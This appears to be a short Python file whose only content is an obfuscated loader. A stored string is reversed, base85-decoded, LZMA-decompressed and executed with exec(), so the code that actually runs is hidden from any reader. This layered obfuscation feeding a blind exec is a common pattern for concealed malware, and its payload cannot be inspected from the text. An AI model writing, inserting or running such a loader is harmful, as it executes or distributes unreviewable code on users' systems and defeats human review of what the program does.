import base64, lzma
_s = 'Dcd0019RR0-&YGA$mzNl{@A00AKrC%1h1&J6m;gWf<M6BQQ*YbvQ~^E!dN0JYhcRbLa$EZm6SR0j$8TbMS167aWts0E@LG=9kx^S84pW{'
exec(lzma.decompress(base64.b85decode(_s[::-1])))
